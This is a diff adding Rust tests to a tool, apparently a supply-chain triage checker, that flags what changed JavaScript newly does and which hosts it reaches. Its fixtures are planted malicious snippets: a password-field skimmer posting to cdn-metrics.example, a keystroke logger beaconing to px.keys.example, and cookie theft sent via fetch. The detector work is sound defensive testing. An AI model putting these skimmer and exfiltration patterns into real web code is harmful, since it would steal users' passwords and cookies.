@@ -2,7 +2,7 @@
 
 #![expect(clippy::panic, reason = "a test says what went wrong by panicking")]
 
-use pinfold_triage::{Capability, Change, Findings, Limits, compare};
+use pinfold_triage::{Capability, Change, Findings, Limits, TOGETHER, Together, compare};
 
 const LIBRARY: &str = include_str!("planted/library.js");
 
@@ -84,4 +84,87 @@ fn the_library_itself_is_no_news() {
     let findings = found("function unused() { return 1; }");
     assert_eq!(findings.facts, []);
     assert_eq!(findings.hosts, []);
+}
+
+fn together(planted: &str) -> Vec<String> {
+    found(planted).together.iter().map(Together::text).collect()
+}
+
+#[test]
+fn what_a_skimmer_takes_and_where_it_sends_it_is_said_together() {
+    let skimmer = "function send(form) {\n  var taken = form.querySelector('input[type=password]').value;\n  \
+                   fetch('https://cdn-metrics.example/c', { method: 'POST', body: atob('YWJj') + taken });\n}";
+    let findings = found(skimmer);
+    let [said] = findings.together.as_slice() else { panic!("{:?}", findings.together) };
+    let function = said.function.as_ref().unwrap();
+    assert_eq!((&*function.name, said.line), ("send", function.line));
+    assert_eq!(
+        said.text(),
+        format!(
+            "one new function, `send` at lines {}–{}, newly: names password fields; decodes text, or makes it of numbers; sends \
+             or loads with fetch, to cdn-metrics.example",
+            said.line, said.last_line
+        )
+    );
+}
+
+#[test]
+fn what_is_spread_over_functions_without_a_name_is_said_of_the_one_that_they_stand_in() {
+    let split = "function start() { document.addEventListener('keydown', function (e) { keep(e) }); setInterval(function () { \
+                 navigator.sendBeacon('https://px.keys.example/', kept) }, 5000) }";
+    let said = together(split);
+    assert_eq!(said.len(), 1, "{said:?}");
+    assert!(said[0].contains("listens to keys; sends a beacon, to px.keys.example"), "{said:?}");
+}
+
+#[test]
+fn a_function_that_did_one_thing_before_is_said_to_do_the_other_newly() {
+    let old = "function send(a) { fetch('/menu', { body: a }) } send(1);";
+    let new = "function send(a) { fetch('/menu', { body: a + document.cookie }) } send(1);";
+    let findings = compare(Some(old.as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
+    let [said] = findings.together.as_slice() else { panic!("{:?}", findings.together) };
+    assert_eq!(
+        said.text(),
+        "one changed function, `send` at lines 1–3, newly: reads or sets cookies; with something else than before: sends or \
+         loads with fetch"
+    );
+}
+
+#[test]
+fn code_outside_functions_is_said_too_and_one_thing_alone_is_not() {
+    let old = "show(1);";
+    let said = |new: &str| {
+        let findings = compare(Some(old.as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
+        findings.together.iter().map(Together::text).collect::<Vec<_>>()
+    };
+    assert_eq!(
+        said("show(1); var c = document.cookie; fetch('https://a.example/', { body: c });"),
+        ["code outside functions newly: reads or sets cookies; sends or loads with fetch, to a.example"]
+    );
+    assert_eq!(said("show(1); fetch('/a'); fetch('/b');"), [""; 0]);
+    assert_eq!(
+        said("show(1); function a() { fetch('/a') } function b() { return document.cookie }"),
+        [""; 0]
+    );
+}
+
+#[test]
+fn many_functions_with_long_names_fill_no_page() {
+    let function = |number: usize| {
+        format!(
+            "function {}{number}() {{ fetch('/{number}', {{ body: document.cookie }}) }}\n",
+            "n".repeat(5000)
+        )
+    };
+    let said = together(&(0..50).map(function).collect::<String>());
+    assert_eq!(said.len(), TOGETHER);
+    assert!(said.iter().all(|said| said.len() < 300), "{said:?}");
+}
+
+#[test]
+fn a_host_that_is_named_elsewhere_than_where_something_goes_to_it_is_known_to_be_reached() {
+    let findings = found("var to = 'https://cdn-metrics.example/c';\nfunction f() {\n  fetch(to);\n}");
+    assert_eq!(findings.hosts.first().and_then(|host| host.reached_by), Some(Capability::Fetch));
+    let findings = found("var to = 'https://cdn-metrics.example/c';\nshow(to);");
+    assert_eq!(findings.hosts.first().and_then(|host| host.reached_by), None);
 }
